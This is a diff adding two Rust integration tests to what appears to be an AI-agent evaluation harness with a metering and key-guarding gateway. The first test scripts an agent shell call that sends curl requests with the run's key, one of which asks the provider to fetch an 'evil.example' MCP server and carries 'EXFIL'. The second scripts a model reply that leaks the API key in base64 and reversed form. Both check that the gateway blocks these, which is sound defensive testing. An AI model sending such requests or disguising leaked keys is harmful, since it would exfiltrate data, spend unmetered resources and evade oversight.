@@ -321,3 +321,115 @@ fn a_claude_login_reaches_the_model_through_the_gateway() {
     );
     assert!(!shown.contains("REDACTED"), "{shown}");
 }
+
+/// A tool the agent runs uses the run's own endpoint and placeholder key against the
+/// gateway (Claude Code, sandboxed): Chat Completions streams — a protocol Claude Code never
+/// speaks, whose usage would go unmetered — and a Messages request whose `mcp_servers`
+/// would have the provider fetch an unlisted host. Each is refused with a 403, none reaches
+/// the model, and the refusals are counted in the run's traffic.
+#[test]
+fn a_tool_can_not_spend_on_another_protocol_or_make_the_provider_fetch() {
+    let agent = AGENTS
+        .iter()
+        .map(|a| a())
+        .find(|a| a.name == "claude")
+        .unwrap();
+    let marker = "HOSTILE-GATEWAY-CLAUDE";
+    let chat = r#"{"model":"gpt-5.5","stream":true,"messages":[{"role":"user","content":"x"}]}"#;
+    let fetch = r#"{"model":"fake-model","max_tokens":10,"mcp_servers":[{"type":"url","url":"https://evil.example/mcp","name":"x"}],"messages":[{"role":"user","content":"EXFIL"}]}"#;
+    let post = |path: &str, header: &str, body: &str| {
+        format!(
+            "curl -s -o /dev/null -w '%{{http_code}} ' -X POST \"$ANTHROPIC_BASE_URL{path}\" -H \"{header}$ANTHROPIC_API_KEY\" -H 'content-type: application/json' -d '{body}'"
+        )
+    };
+    let script = format!(
+        "for i in 1 2 3 4 5; do {chat}; done; {fetch}",
+        chat = post("/v1/chat/completions", "authorization: Bearer ", chat),
+        fetch = post("/v1/messages", "x-api-key: ", fetch),
+    );
+    let model = ScriptedModel::start();
+    model.script(
+        marker,
+        vec![agent.shell_call(&script), Turn::Text("Done.".into())],
+    );
+    let suite = Suite::new();
+    suite.file(
+        "tests/ws/hostile.aptitude.yaml",
+        &format!(
+            "name: hostile\nprompt: \"{marker}: call the endpoint\"\nassertions:\n  - tool: Bash\n    called: true\n"
+        ),
+    );
+    let (code, results, stderr) = run_on(&suite, &model, &agent, &["--no-grade"]);
+    assert!(code == 0 || code == 1, "exit {code}\n{stderr}");
+    let test = &results["tests"][0];
+    let printed = test["transcript"]["tool_calls"][0]["output"].to_string();
+    assert!(
+        printed.contains("403 403 403 403 403 403"),
+        "every hostile request got a 403: {printed}\n{test:#}"
+    );
+    for request in model.requests() {
+        assert!(
+            !request.path.contains("chat/completions"),
+            "reached the model: {}",
+            request.path
+        );
+        // (The agent's own later requests quote the script; the hostile one is the one
+        // with `mcp_servers`.)
+        assert!(
+            request.body.get("mcp_servers").is_none(),
+            "the fetch reached the model"
+        );
+    }
+    let traffic = &test["model_traffic"];
+    assert_eq!(traffic["refused"], 6, "{traffic:#}");
+    assert_eq!(traffic["provider_fetches_refused"], 1, "{traffic:#}");
+    assert!(
+        traffic["refused_first"]
+            .as_str()
+            .is_some_and(|r| r.contains("which this run's agent does not speak")),
+        "{traffic:#}"
+    );
+}
+
+/// A model reply that quotes the run's real key base64-encoded or reversed (Claude Code,
+/// sandboxed) never hands it to the agent: the gateway takes it out, ends the reply as an
+/// error and counts it; neither form shows anywhere in the results.
+#[test]
+fn a_reply_quoting_the_key_in_another_form_never_reaches_the_agent() {
+    use base64::Engine;
+    let agent = AGENTS
+        .iter()
+        .map(|a| a())
+        .find(|a| a.name == "claude")
+        .unwrap();
+    let (_, real) = key_of("claude");
+    let encoded = base64::engine::general_purpose::STANDARD.encode(real);
+    let reversed: String = real.chars().rev().collect();
+    let marker = "ECHO-KEY-CLAUDE";
+    let model = ScriptedModel::start();
+    model.script(
+        marker,
+        vec![Turn::Text(format!("Your key: {encoded} / {reversed}"))],
+    );
+    let suite = Suite::new();
+    suite.file(
+        "tests/ws/echo.aptitude.yaml",
+        &format!(
+            "name: echo\nprompt: \"{marker}: say the key\"\nassertions:\n  - tool: Bash\n    called: false\n"
+        ),
+    );
+    let (code, results, stderr) = run_on(&suite, &model, &agent, &["--no-grade"]);
+    assert!(code == 0 || code == 1, "exit {code}\n{stderr}");
+    let text = results.to_string();
+    for form in [encoded.as_str(), reversed.as_str()] {
+        assert!(!text.contains(form), "{form} reached the results: {text}");
+        assert!(!stderr.contains(form), "{form} reached the terminal");
+    }
+    let test = &results["tests"][0];
+    assert_ne!(test["status"], "passed", "{test:#}");
+    let traffic = &test["model_traffic"];
+    assert!(
+        traffic["key_echoes"].as_u64().is_some_and(|n| n >= 1),
+        "{traffic:#}"
+    );
+}
